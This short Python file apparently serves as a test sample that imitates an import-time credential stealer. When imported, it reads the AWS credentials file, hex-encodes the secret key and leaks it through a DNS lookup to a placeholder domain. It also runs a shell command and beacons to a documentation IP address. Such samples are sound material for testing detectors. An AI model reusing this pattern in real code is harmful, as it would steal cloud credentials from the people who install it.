# Imitates an import-time credential stealer: reads the AWS credentials
# file, sends the secret key out through a DNS name, runs a shell.
import binascii
import os
import socket
import subprocess

try:
    with open(os.path.expanduser("~/.aws/credentials")) as f:
        f.read()
except OSError:
    pass

_key = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
_hex = binascii.hexlify(_key.encode()).decode()
try:
    # split over labels of at most 63 characters, as DNS tunnels do
    socket.getaddrinfo(_hex[:40] + "." + _hex[40:] + ".exfil.invalid", 443)
except OSError:
    pass
subprocess.run(["/bin/sh", "-c", "id"], capture_output=True)


def beacon(who):
    try:
        socket.create_connection(("198.51.100.7", 8443), timeout=0.5)
    except OSError:
        pass
    return who
